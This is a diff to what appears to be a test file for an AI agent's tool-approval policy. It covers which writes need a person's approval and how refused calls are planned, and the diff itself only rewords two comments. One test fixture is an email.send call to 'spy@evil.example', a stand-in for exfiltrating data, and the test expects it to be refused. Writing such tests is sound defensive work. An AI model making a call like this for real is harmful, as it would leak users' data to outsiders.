@@ -153,7 +153,7 @@ test('a policy is too wide when records are read and writes are performed with n
   expect(writesWithoutApproval({ ...both, require_approval: ['email.send'] })).toEqual(['crm.create_activity']);
   expect(writesWithoutApproval({ ...both, require_approval: 'all' })).toEqual([]);
   expect(writesWithoutApproval({ allowed_actions: ['email.send'], require_approval: 'none' })).toEqual([]);
-  // What no integration allows is no tool.
+  // A model is not offered an action whose integration is not allowed.
   const unusable = { allowed_actions: ['crm.find_records', 'alert.send'], require_approval: 'none' };
   expect(writesWithoutApproval(unusable)).toEqual([]);
   expect(writesWithoutApproval({ ...unusable, allowed_integrations: ['slack'] })).toEqual(['alert.send']);
@@ -199,7 +199,7 @@ test('calls are planned together; one that a person approves has the question be
   });
   const asking = stateOf([], { place: placeOf({ ...everything, require_approval: 'writes' }) });
   expect(planCalls(asking, [request(1)])).toMatchObject({ steps: [{ kind: 'approval' }, { kind: 'tool_call' }] });
-  // What is refused anyway asks nobody.
+  // Nobody is asked about a call that will be refused.
   const refused = { call_id: 'c', name: 'email.send', input: '{"to":"spy@evil.example","subject":"a","body":"b"}' };
   expect(planCalls(asking, [refused])).toMatchObject({ steps: [{ kind: 'tool_call' }] });
 });
